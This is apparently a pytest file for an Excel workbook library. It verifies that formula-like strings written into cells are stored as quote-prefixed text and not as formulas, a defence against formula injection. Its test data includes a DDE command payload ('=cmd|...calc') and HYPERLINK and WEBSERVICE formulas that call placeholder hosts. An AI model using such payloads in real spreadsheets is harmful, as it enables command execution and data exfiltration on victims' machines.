"""Text is text: every string either applier writes is a string cell, and one
that Excel or WPS would take for a formula once a clerk edits it (`=`, `+`,
`-`, `@`, also after spaces or a tab) carries quotePrefix; only `Formula`
objects become formulas.  Checked by scanning the XML the file applier wrote
and the cells the live applier left in a stand-in of the open book."""
from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from buttons_fakes import FakeBook
from buttons_fixtures import build_xlsx, buttons_for
from consolidate_helpers import cli, project, small_folder
from xltools.consolidate.sample import write_submission
from xltools.core.addresses import to_a1
from xltools.excel import live
from xltools.master import layout as L
from xltools.master.build import MasterSpec, write_master
from legacy_master import make_xlsm
from xltools.xlsx.apply import edit_file
from xltools.xlsx.edits import Formula, Plan
from xltools.xlsx.package import Package
from xltools.xlsx.text import cell_text

# text written                          quotePrefix  (a clerk's or a hostile form's text)
TEXTS = [
    ("=cmd|' /C calc'!A0",                  True),
    ('=HYPERLINK("http://x.cn/"&A1,"点我")', True),
    ("\t=2+2",                              True),
    ("  +1",                                True),
    ("-5",                                  True),
    ("@SUM(A1)",                            True),
    ("\u3000=1+1",                          True),   # full-width space first
    ("=WEBSERVICE(\"http://x\")",           True),
    ("完成",                                 False),
    ("12月31日前完成",                       False),
    ("第一行\x0b第二行",                     False),  # Word's line break: a line break
    ("a\x07b",                              False),  # Word's cell mark: dropped
]
FIRST_ROW = 40  # rows of 校验结果 well below anything the fixture has
FORMULA = Formula("=SUM(1,2)", 3)
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _plan() -> Plan:
    cells = {(FIRST_ROW + i, 1): text for i, (text, _q) in enumerate(TEXTS)}
    cells[(FIRST_ROW + len(TEXTS), 1)] = FORMULA
    return Plan(edits={L.CHECKS_SHEET: cells})


@pytest.fixture
def master(tmp_path) -> Path:
    xlsx = build_xlsx(tmp_path / "m.xlsx")
    return make_xlsm(xlsx, tmp_path / "主表.xlsm", buttons_for(xlsx))


def _cells_and_prefix(path: Path, sheet: str) -> dict[str, tuple[etree._Element, bool]]:
    """A1 → (<c> element, its format has quotePrefix) of one sheet."""
    pkg = Package.load(path)
    root = etree.fromstring(pkg.parts[pkg.sheet_part(sheet)])
    styles = etree.fromstring(pkg.parts["xl/styles.xml"])
    xfs = styles.find(f"{NS}cellXfs").findall(f"{NS}xf")
    out = {}
    for c in root.iter(f"{NS}c"):
        xf = xfs[int(c.get("s", 0))]
        out[c.get("r")] = (c, xf.get("quotePrefix") in ("1", "true"))
    return out


def _all_formulas(path: Path) -> list[str]:
    pkg = Package.load(path)
    return [f.text or "" for _n, part, _r in pkg.sheets()
            for f in etree.fromstring(pkg.parts[part]).iter(f"{NS}f")]


def test_file_applier_writes_text_as_text(master):
    assert edit_file(master, lambda book: _plan()).changed
    cells = _cells_and_prefix(master, L.CHECKS_SHEET)
    for i, (text, prefixed) in enumerate(TEXTS):
        c, has_prefix = cells[to_a1(FIRST_ROW + i, 1)]
        assert c.get("t") == "inlineStr" and c.find(f"{NS}f") is None, text
        assert "".join(c.find(f"{NS}is").itertext()) == cell_text(text), text
        assert has_prefix is prefixed, text
    c, has_prefix = cells[to_a1(FIRST_ROW + len(TEXTS), 1)]
    assert c.find(f"{NS}f").text == "SUM(1,2)" and c.find(f"{NS}v").text == "3" and not has_prefix
    for formula in _all_formulas(master):
        assert not any(word in formula for word in ("cmd", "HYPERLINK", "2+2", "WEBSERVICE")), formula
    # the same plan again changes nothing (quotePrefix formats found, not added twice)
    data = master.read_bytes()
    assert not edit_file(master, lambda book: _plan()).changed
    assert master.read_bytes() == data


def test_quote_prefix_follows_the_text(master):
    """A cell that held formula-like text and then a plain one loses quotePrefix."""
    rc = (FIRST_ROW, 1)
    edit_file(master, lambda book: Plan(edits={L.CHECKS_SHEET: {rc: "=1+1"}}))
    assert _cells_and_prefix(master, L.CHECKS_SHEET)[to_a1(*rc)][1] is True
    edit_file(master, lambda book: Plan(edits={L.CHECKS_SHEET: {rc: "正常文字"}}))
    assert _cells_and_prefix(master, L.CHECKS_SHEET)[to_a1(*rc)][1] is False


def test_live_applier_writes_text_as_text(master):
    book = FakeBook.from_file(master)
    live.apply_plan(book, _plan())
    sheet = book.sheets[L.CHECKS_SHEET]
    for i, (text, prefixed) in enumerate(TEXTS):
        rc = (FIRST_ROW + i, 1)
        assert rc not in sheet.formulas, text                 # Excel made no formula of it
        assert sheet.values[rc] == cell_text(text), text      # nor a number
        if prefixed:
            assert rc in sheet.quoted, text
    assert sheet.formulas[(FIRST_ROW + len(TEXTS), 1)] == FORMULA.text


def test_consolidate_master_writes_clerk_text_as_text(tmp_path):
    """`consolidate --master`: a project named `=1+1` lands in the master's
    block as quote-prefixed text; no formula carries the unit's `=HYPERLINK(…)`."""
    folder = small_folder(tmp_path / "subs")
    write_submission(folder / "政务服务中心.xlsx", [
        project("=1+1", '=HYPERLINK("http://x","y")', 160, 65.61, 65.61, total=96)])
    master = write_master(tmp_path / "主表.xlsx", MasterSpec(
        department="株洲市行政审批服务局", year=2022, units=["局机关", "数据资源中心", "政务服务中心"]))
    assert cli("consolidate", folder, "-o", tmp_path / "out.xlsx", "--master", master, "--quiet") == 1
    found = {}
    for ref, (c, prefixed) in _cells_and_prefix(master, L.SUMMARY_SHEET).items():
        if c.get("t") == "inlineStr":
            found["".join(c.find(f"{NS}is").itertext())] = prefixed
    assert found["=1+1"] is True and found["局机关"] is False
    assert not any("1+1" == f or "HYPERLINK" in f for f in _all_formulas(master))
